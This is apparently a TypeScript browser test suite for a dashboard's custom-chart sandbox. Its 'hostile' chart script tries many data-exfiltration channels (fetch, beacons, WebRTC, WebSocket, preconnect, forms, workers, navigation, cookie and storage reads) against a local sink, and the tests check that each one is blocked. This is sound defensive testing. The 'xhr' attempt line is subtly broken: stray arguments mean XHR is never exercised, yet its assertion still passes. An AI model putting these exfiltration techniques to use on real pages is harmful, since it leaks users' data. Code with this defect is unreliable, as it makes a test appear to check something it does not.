import { createSocket, type Socket } from "node:dgram";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import * as assert from "uvu/assert";
import { openBrowser } from "../../../support/openBrowser.ts";
import { suite } from "../../../support/suite.ts";
import { fieldOf, itemOf, openDashboardHost, type DashboardHost } from "./openDashboardHost.ts";
import { openPages, type Pages } from "../console/openPages.ts";

type Json = Readonly<Record<string, unknown>>;

/** Adds a dashboard to the page, and records its events. */
async function begin(attributes: Readonly<Record<string, string>>): Promise<void> {
  const script = `${location.origin}/embed.js`;
  await import(script);
  const made = document.createElement("manifold-dashboard");
  const events: string[] = [];
  for (const name of ["load", "error", "filter"])
    made.addEventListener(name, (event) => {
      if (event instanceof CustomEvent) events.push(`${name} ${JSON.stringify(event.detail)}`);
    });
  Object.assign(window, { events });
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  document.querySelector("main")!.replaceChildren(made);
}

/** A chart that draws its rows as text, and filters by the first row when it is clicked. */
const honest = `manifold.draw = ({ rows, columns, width, theme, locale }) => {
  document.body.textContent = JSON.stringify({ rows, names: columns.map(({ name }) => name), width, theme: theme.name, locale });
  document.body.onclick = () => manifold.filter([0]);
  manifold.resize(160);
};`;

/** A chart that tries every way to send data out of a page, to an address that counts requests. */
const hostile = (sink: string, stun: string) => `
const sink = ${JSON.stringify(sink)};
const told = {};
manifold.draw = async ({ rows }) => {
  const secret = encodeURIComponent(JSON.stringify(rows).slice(0, 40));
  const attempt = async (name, run) => {
    const patience = new Promise((done) => setTimeout(done, 1500, "nothing"));
    try { told[name] = String(await Promise.race([run(), patience])); } catch (failure) { told[name] = "refused " + failure.name; }
    top.postMessage({ type: "told", told }, "*");
  };
  const to = (name) => sink + "/" + name + "?" + secret;
  const add = (tag, attributes, into = document.body) => {
    const made = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    into.append(made);
    return made;
  };
  await attempt("fetch", () => fetch(to("fetch"), { mode: "no-cors" }));
  const dial = async (Peer) => {
    const peer = new Peer({ iceServers: [{ urls: ${JSON.stringify(stun)} }] });
    peer.createDataChannel("a");
    await peer.setLocalDescription(await peer.createOffer());
    return "made";
  };
  await attempt("webrtc", () => dial(RTCPeerConnection));
  await attempt("webrtcBlank", () => dial(add("iframe", {}).contentWindow.RTCPeerConnection));
  await attempt("webrtcMarkup", () => add("iframe", { srcdoc: "<script>new RTCPeerConnection()</script>" }));
  await attempt("markup", () => { document.body.innerHTML = "<img src=" + to("markup") + ">"; });
  await attempt("policy", () => trustedTypes.createPolicy("manifold", {}));
  await attempt("dns", () => { add("link", { rel: "dns-prefetch", href: to("dns") }, document.head); });
  await attempt("preconnect", () => { add("link", { rel: "preconnect", href: to("preconnect") }, document.head); });
  const connect = (link) => { link.rel = "preconnect"; link.href = to("link"); document.head.append(link); };
  await attempt("linkOfClass", () => {
    customElements.define("my-link", class extends HTMLLinkElement {}, { extends: "link" });
    connect(document.createElement("link", { is: "my-link" }));
  });
  await attempt("linkOfNamespace", () => connect(document.createElementNS("http://www.w3.org/1999/xhtml", "x:link")));
  await attempt("linkOfOtherDocument", () => connect(document.implementation.createHTMLDocument("").createElement({ toString: () => "LINK" })));
  await attempt("linkOfParser", () => document.head.setHTML("<link rel=preconnect href=" + to("parser") + ">", { sanitizer: { elements: ["link"] } }));
  await attempt("xhr", "webrtc", "webrtcBlank", "webrtcMarkup", "markup", "policy", () => new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open("GET", to("xhr"));
    request.onload = done; request.onerror = () => fail(new Error("xhr")); request.send();
  }));
  await attempt("image", () => { new Image().src = to("image"); });
  await attempt("beacon", () => navigator.sendBeacon(to("beacon"), secret));
  await attempt("socket", () => { new WebSocket(sink.replace("http", "ws") + "/socket"); });
  await attempt("events", () => { new EventSource(to("events")); });
  await attempt("script", () => { add("script", { src: to("script") }); });
  await attempt("module", () => import(to("module")));
  await attempt("style", () => { add("link", { rel: "stylesheet", href: to("style") }); });
  await attempt("import", () => { add("style", {}).textContent = '@import "' + to("import") + '"; body { background: url(' + to("background") + ") }"; });
  await attempt("font", () => new FontFace("f", "url(" + to("font") + ")").load());
  await attempt("media", () => { add("video", { src: to("media"), autoplay: "" }); });
  await attempt("object", () => { add("object", { data: to("object") }); });
  await attempt("embed", () => { add("embed", { src: to("embed") }); });
  await attempt("frame", () => { add("iframe", { src: to("frame") }); });
  await attempt("srcdoc", () => { add("iframe", { srcdoc: '<img src="' + to("srcdoc") + '">' }); });
  await attempt("prefetch", () => { add("link", { rel: "prefetch", href: to("prefetch") }, document.head); });
  await attempt("preload", () => { add("link", { rel: "preload", as: "image", href: to("preload") }, document.head); });
  await attempt("modulepreload", () => { add("link", { rel: "modulepreload", href: to("modulepreload") }, document.head); });
  await attempt("speculation", () => { add("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ urls: [to("speculation")] }] }); });
  await attempt("manifest", () => { add("link", { rel: "manifest", href: to("manifest") }, document.head); });
  await attempt("form", () => { add("form", { action: to("form"), method: "post" }).submit(); });
  await attempt("ping", () => { add("a", { href: "#x", ping: to("ping") }).click(); });
  await attempt("open", () => String(open(to("open"))));
  await attempt("popup", () => { add("a", { href: to("popup"), target: "_blank" }).click(); });
  await attempt("download", () => { add("a", { href: to("download"), download: "x" }).click(); });
  await attempt("top", () => { top.location = to("top"); });
  await attempt("parent", () => { parent.location = to("parent"); });
  await attempt("document", () => parent.document.title);
  await attempt("grand", () => top.document.title);
  await attempt("storage", () => localStorage.setItem("a", "b"));
  await attempt("session", () => sessionStorage.setItem("a", "b"));
  await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie; });
  await attempt("database", () => indexedDB.open("a"));
  await attempt("caches", () => caches.open("a"));
  await attempt("service", () => navigator.serviceWorker.register("/embed.js"));
  await attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + to("worker") + "')"]))); });
  await attempt("broadcast", () => new BroadcastChannel("a").postMessage("b"));
  await attempt("clipboard", () => navigator.clipboard.writeText("a"));
  for (const bad of [{ type: "filter", rows: [-1] }, { type: "filter", rows: ["0"] }, { type: "filter", rows: "all" },
    { type: "size", height: 1e9 }, { type: "size", height: "9px" }, { type: "__proto__" }, null, 7])
    await attempt("message", () => manifold.filter(bad && bad.rows));
  parent.postMessage({ type: "told", told }, "*");
  await attempt("end", () => {});
  location.href = to("navigation");
};`;

suite("core/web/embed/custom", (test) => {
  let host: DashboardHost;
  let browser: Browser;
  let framed: Pages;
  let free: Pages;
  let strict: Pages;
  let sink: Server;
  let stun: Socket;
  let reached: string[] = [];
  let connectionCount = 0;
  let packetCount = 0;
  test.before(async () => {
    host = await openDashboardHost();
    const { url } = host.people.host;
    strict = await openPages({ connectTo: url });
    framed = await openPages({
      policy:
        `default-src 'none'; script-src 'self'; style-src 'self'; connect-src ${url}; frame-src ${url}; ` +
        "require-trusted-types-for 'script'",
    });
    free = await openPages({ policy: "" });
    browser = await openBrowser();
    sink = createServer((request, response) => {
      reached.push(request.url ?? "");
      response.end();
    });
    sink.on("connection", () => connectionCount++);
    sink.on("upgrade", (request, socket) => {
      reached.push(request.url ?? "");
      socket.destroy();
    });
    await new Promise<void>((resolve) => sink.listen(0, "127.0.0.1", resolve));
    stun = createSocket("udp4", () => packetCount++);
    await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
  });
  test.after(async () => {
    await browser?.close();
    await Promise.all([framed, free, strict].map((pages) => pages?.close()));
    sink?.close();
    stun?.close();
    await host?.close();
  });

  async function boardOf(script: string): Promise<Readonly<Record<string, string>>> {
    const { id } = await host.people.owner.create<{ id: string }>("customchart", {
      name: { en: "Own" },
      type: "own",
      script,
    });
    const field = (name: string, more: Json) => fieldOf(host.dataset, name, more);
    const region = field("region", { type: "hierarchy" });
    const km = field("km", { type: "numeric", aggregationFunc: "sum" });
    const slots = { category: [region], measure: [km] };
    const dashboard = await host.create([
      itemOf("own", "custom-chart", slots, [0, 0, 24, 20], { customChartId: id }),
      itemOf("rows", "regular-table", { columns: [region, km] }, [24, 0, 24, 20]),
    ]);
    const { pair } = await host.mint();
    return {
      dashboard,
      host: host.people.host.url,
      "auth-key": pair.key,
      "auth-token": pair.token,
      locale: "nl",
      timezone: "UTC",
      theme: "dark",
    };
  }
  const eventsOf = (page: Page) => page.evaluate(() => Reflect.get(window, "events") as string[]);
  const inner = (page: Page) =>
    page.frameLocator(".mf-frame").frameLocator("iframe").locator("body");

  test.deep(
    "a custom chart receives rows, theme, size and language, and can set filters and request a height",
    async () => {
      const page = await framed.open(browser);
      await page.evaluate(begin, await boardOf(honest));
      const body = inner(page);
      await body.filter({ hasText: "rows" }).waitFor({ state: "attached" });
      const drawn: Json = JSON.parse((await body.textContent()) ?? "");
      assert.is((drawn["rows"] as unknown[]).length, 4);
      assert.equal(drawn["names"], ["region", "km"]);
      assert.equal([drawn["theme"], drawn["locale"]], ["dark", "nl"]);
      assert.is((await page.locator(".mf-frame").boundingBox())?.height, 160);
      await body.dispatchEvent("click");
      await page.waitForFunction(() =>
        (Reflect.get(window, "events") as string[]).some((each) => each.startsWith("filter")),
      );
      assert.match((await eventsOf(page)).join(), /filter .*"source":"own"/);
      assert.equal(framed.reports, []);
      await page.close();
    },
  );

  test.deep("a private link shows a custom chart in its frame", async () => {
    const { owner, publicGroup, host: served } = host.people;
    const { dashboard } = await boardOf(honest);
    const { id: key } = await owner.create<{ id: string }>("share", {});
    await owner.associate("share", key, { role: "Dashboard", id: String(dashboard) });
    const group = { role: "Groups", id: publicGroup };
    for (const id of [String(dashboard), host.dataset.id])
      await owner.associate("securable", id, group, { flagRead: true, flagUse: true });
    const page = await browser.newPage();
    const reports: string[] = [];
    page.on("console", (message) => {
      if (message.type() === "error") reports.push(message.text());
    });
    await page.goto(`${served.url}/shared/${key}`);
    await inner(page).filter({ hasText: "rows" }).waitFor({ state: "attached" });
    assert.equal(reports, []);
    await page.close();
  });

  for (const kind of ["framed", "free"] as const)
    test.deep(
      `a hostile chart reaches no server and no content of the page, ${kind === "free" ? "even without any policy" : "with a policy"}`,
      async () => {
        reached = [];
        connectionCount = 0;
        packetCount = 0;
        const { port } = sink.address() as AddressInfo;
        const script = hostile(`http://127.0.0.1:${port}`, `stun:127.0.0.1:${stun.address().port}`);
        const page = await (kind === "free" ? free : framed).open(browser);
        await page.evaluate(() => {
          localStorage.setItem("own", "kept");
          addEventListener("message", ({ data }) => {
            if (data?.type === "told") Object.assign(window, { told: data.told });
          });
        });
        const address = page.url();
        await page.evaluate(begin, await boardOf(script));
        await page
          .waitForFunction(() => Reflect.get(window, "told")?.clipboard !== undefined)
          .catch(async (failure: unknown) => {
            throw new Error(
              `the chart ended early: ${JSON.stringify(await page.evaluate(() => Reflect.get(window, "told")))}`,
              { cause: failure },
            );
          });
        const told = await page.evaluate(
          () => Reflect.get(window, "told") as Record<string, string>,
        );
        // The chart tries to navigate last. A frame that has navigated shows an error page or nothing.
        await page.waitForFunction(() => document.readyState === "complete");
        await page.waitForTimeout(1_000);
        assert.is(page.url(), address);
        assert.is(page.context().pages().length, 1);
        assert.equal(reached, []);
        assert.is(connectionCount, 0, "preconnect opens no connection");
        for (const name of [
          "document",
          "grand",
          "storage",
          "session",
          "cookie",
          "top",
          "parent",
          "fetch",
          "xhr",
          "module",
          "webrtc",
          "webrtcBlank",
          "webrtcMarkup",
          "markup",
          "policy",
          "dns",
          "preconnect",
          "linkOfClass",
          "linkOfNamespace",
          "linkOfOtherDocument",
          "linkOfParser",
        ])
          assert.match(told[name] ?? "", /^refused/, `${name}: ${told[name]}`);
        assert.is(packetCount, 0);
        await page.close();
      },
    );

  test.deep(
    "if a page's policy blocks frames, a custom chart is shown as a table with a note",
    async () => {
      const page = await strict.open(browser);
      await page.evaluate(begin, await boardOf(honest));
      const cell = page.locator('[data-item="own"]');
      await cell.locator('[part="note"]').filter({ hasText: "staat geen frames" }).waitFor();
      assert.is(await cell.locator("iframe").count(), 0);
      await cell.locator('[part="table"]').getByText("north").waitFor();
      await page.close();
    },
  );
});
